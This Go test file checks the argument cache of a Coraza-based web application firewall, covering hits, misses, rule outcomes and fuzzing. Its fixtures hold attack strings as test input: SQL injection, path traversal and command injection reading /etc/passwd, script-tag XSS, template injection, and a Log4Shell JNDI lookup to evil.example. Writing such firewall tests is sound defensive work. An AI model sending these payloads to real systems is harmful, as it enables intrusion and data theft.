package waf

import (
	"bufio"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/corazawaf/coraza/v3/experimental/plugins/plugintypes"
	"github.com/corazawaf/coraza/v3/types/variables"
)

// formRequest is browserRequest's form POST with body as its body and
// query as its query string (may be empty).
func formRequest(query, body string) *http.Request {
	target := "/contact"
	if query != "" {
		target += "?" + query
	}
	r := browserRequest("Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/120.0", "")
	r2 := httptest.NewRequest("POST", target, strings.NewReader(body))
	r2.Header = r.Header
	return r2
}

// hasArg reports whether the cache of w keeps argument text v.
func hasArg(w *WAF, v string) bool {
	c := w.plan.hdr
	s := &gateState{p: w.plan, hbuf: make([]byte, 32)}
	k := s.sum(argText, "", v)
	sh := c.shard(k)
	sh.mu.RLock()
	defer sh.mu.RUnlock()
	_, ok := sh.m[k]
	return ok
}

// TestArgCacheHit: a form whose fields were seen twice before costs the
// gate less work than the first time, with the same outcome; its texts
// are kept from the second on, and an argument under a credential name
// is never kept, neither its value nor its name.
func TestArgCacheHit(t *testing.T) {
	w := countingWAFs(t, headerCacheEntries)
	const body = "name=Ana+Mar%C3%ADa&email=ana%40example.com&comment=It%27s+a+great+product%2C+thanks%21&qty=2&password=hunter2hunter2&api_token=0f3a9c"
	const query = "page=2&sort=price"
	var work [3]int64
	ref, vr, mr := workOf(t, w[1], formRequest(query, body))
	for i := range work {
		if i == 1 && hasArg(w[0], "Ana María") {
			t.Error("a text seen once is kept")
		}
		var v Verdict
		var m []string
		work[i], v, m = workOf(t, w[0], formRequest(query, body))
		if !reflect.DeepEqual(v, vr) || !slices.Equal(m, mr) {
			t.Errorf("request %d: outcomes differ: cached %+v %q, uncached %+v %q", i, v, m, vr, mr)
		}
	}
	t.Logf("gate work: %v with the cache, %d without", work, ref)
	// The second request's header values are answered from the cache,
	// its arguments are kept; the third's are answered too.
	if work[2] >= work[1] || work[1] > work[0] {
		t.Errorf("gate work on the same form: %v: the third is not the least", work)
	}
	for _, v := range []string{"Ana María", "ana@example.com", "It's a great product, thanks!", "2", "qty", "comment", "price", "sort"} {
		if !hasArg(w[0], v) {
			t.Errorf("the cache does not keep %q, seen on every request", v)
		}
	}
	for _, v := range []string{"hunter2hunter2", "0f3a9c", "password", "api_token"} {
		if hasArg(w[0], v) {
			t.Errorf("the cache keeps %q, under a credential's name", v)
		}
	}
}

// TestArgCacheMiss: argument values never seen before (an attacker's,
// unique on every request) cost the gate no more work than without the
// cache, request by request, and no more than their hash and a bit of
// the seen filter are kept of them, while the cache stays within its
// bound.
func TestArgCacheMiss(t *testing.T) {
	const entries = 64
	w := countingWAFs(t, entries)
	for i := range 3 * entries {
		q := url.Values{
			"q":    {fmt.Sprintf("shoes %d' or %d=%d -- <b>x</b>", i, i, i)},
			"file": {fmt.Sprintf("../../etc/passwd?%d;cat /etc/hosts", i*7919)},
			"id":   {fmt.Sprint(1000 + i)},
		}.Encode()
		body := fmt.Sprintf("comment=%s&n%d=1", url.QueryEscape(fmt.Sprintf("<script>alert(%d)</script>", i)), i)
		got, vc, mc := workOf(t, w[0], formRequest(q, body))
		want, vr, mr := workOf(t, w[1], formRequest(q, body))
		if got > want {
			t.Errorf("request %d: gate work %d with the cache, %d without", i, got, want)
		}
		if !reflect.DeepEqual(vc, vr) || !slices.Equal(mc, mr) {
			t.Errorf("request %d: outcomes differ: cached %+v %q, uncached %+v %q", i, vc, mc, vr, mr)
		}
		if n := w[0].plan.hdr.len(); n > entries {
			t.Fatalf("request %d: the cache holds %d values, bound %d", i, n, entries)
		}
	}
}

// TestArgCacheQuiet: a kept argument text that answered false to every
// test of the rules reading ARGS is quiet there (asked no more, rule by
// rule or through its bytes); one a test answered true for is not.
func TestArgCacheQuiet(t *testing.T) {
	w := countingWAFs(t, headerCacheEntries)[0]
	args := slices.IndexFunc(w.plan.selectors, func(sel gateSelector) bool {
		return sel.v == variables.Args && sel.key == "" && sel.keyRx == nil && !sel.count
	})
	if args < 0 || w.plan.selTests[args] == nil {
		t.Fatalf("ARGS is not a selector whose readers all have tests (%d)", args)
	}
	for _, c := range []struct {
		value string
		loud  bool
	}{
		{"a quiet comment", false},
		{"1' UNION SELECT password FROM users--", true},
	} {
		for range 3 {
			workOf(t, w, formRequest("", "comment="+url.QueryEscape(c.value)))
		}
		if !hasArg(w, c.value) {
			t.Fatalf("%q is not kept", c.value)
		}
		s := &gateState{p: w.plan, hbuf: make([]byte, 32), vals: []string{c.value}, hc: []int32{1}}
		s.hbits = make([]uint64, 2*w.plan.hdr.words)
		w.plan.hdr.load(s.sum(argText, "", c.value), s.hbits)
		if got := s.loud(0, args); got != c.loud {
			t.Errorf("%q: loud on ARGS %v, want %v", c.value, got, c.loud)
		}
	}
}

// FuzzArgCache: a request with an arbitrary argument, in the query and
// in a form body, gets the same outcome (verdict, matched rules and
// values) from the rule set with the cache, asked three times (the
// text seen, then kept, then answered), as without it.
func FuzzArgCache(f *testing.F) {
	for _, s := range [][2]string{
		{"q", "shoes"},
		{"q", "1' UNION SELECT password FROM users--"},
		{"id", "42"},
		{"file", "../../../../etc/passwd"},
		{"x", "<script>alert(1)</script>"},
		{"cmd", "; cat /etc/passwd"},
		{"password", "hunter2"},
		{"x", "${jndi:ldap://evil.example/a}"},
		{"sort", "price"},
		{"q", "{{7*7}}"},
	} {
		f.Add(s[0], s[1])
	}
	wafs, err := cacheWAFs()
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, name, value string) {
		arg := url.QueryEscape(name) + "=" + url.QueryEscape(value)
		req := func() *http.Request {
			raw := fmt.Sprintf("POST /search?%s HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n%s", arg, len(arg), arg)
			r, err := http.ReadRequest(bufio.NewReader(strings.NewReader(raw)))
			if err != nil {
				return nil
			}
			return r
		}
		if req() == nil {
			return
		}
		vr, mr, er := outcomeOf(wafs[1], req())
		for i := range 3 {
			vc, mc, ec := outcomeOf(wafs[0], req())
			if !reflect.DeepEqual(vc, vr) || !slices.Equal(mc, mr) || fmt.Sprint(ec) != fmt.Sprint(er) {
				t.Fatalf("%q=%q: asked %d times: cached %+v %q (%v), uncached %+v %q (%v)", name, value, i+1, vc, mc, ec, vr, mr, er)
			}
		}
	})
}

// TestArgCacheSettled: a kept argument text that a selector of another
// variable took first, as a value the cache does not answer for, stays
// one when an argument selector takes it: that selector's bytes hold
// it, and a later look-up would have its rules ask it neither through
// them nor on its own.
func TestArgCacheSettled(t *testing.T) {
	w := countingWAFs(t, headerCacheEntries)[0]
	const v = "a quiet comment"
	for range 3 {
		workOf(t, w, formRequest("", "comment="+url.QueryEscape(v)))
	}
	if !hasArg(w, v) {
		t.Fatalf("%q is not kept", v)
	}
	p := w.plan
	find := func(rv variables.RuleVariable) int {
		k := slices.IndexFunc(p.selectors, func(sel gateSelector) bool {
			return sel.v == rv && sel.key == "" && sel.keyRx == nil && !sel.count
		})
		if k < 0 {
			t.Fatalf("no selector of all of %s", rv.Name())
		}
		return k
	}
	args, headers := find(variables.Args), find(variables.RequestHeaders)
	tx := w.Begin(nil)
	defer tx.Close()
	for _, order := range [][2]int{{headers, args}, {args, headers}} {
		s := &gateState{valIdx: map[strID]int{}}
		s.reset(p, tx.tx.(plugintypes.TransactionState))
		s.take(order[0], "comment", v)
		vi := s.sel[order[0]][0]
		first := s.hc[vi]
		s.take(order[1], "comment", v)
		if s.hc[vi] != first {
			t.Errorf("taken by %s, then %s: answered for by the cache %v, then %v", p.selectors[order[0]].v.Name(), p.selectors[order[1]].v.Name(), first != 0, s.hc[vi] != 0)
		}
		if want := order[0] == args; (first != 0) != want {
			t.Errorf("taken by %s first: answered for by the cache %v, want %v", p.selectors[order[0]].v.Name(), first != 0, want)
		}
	}
}
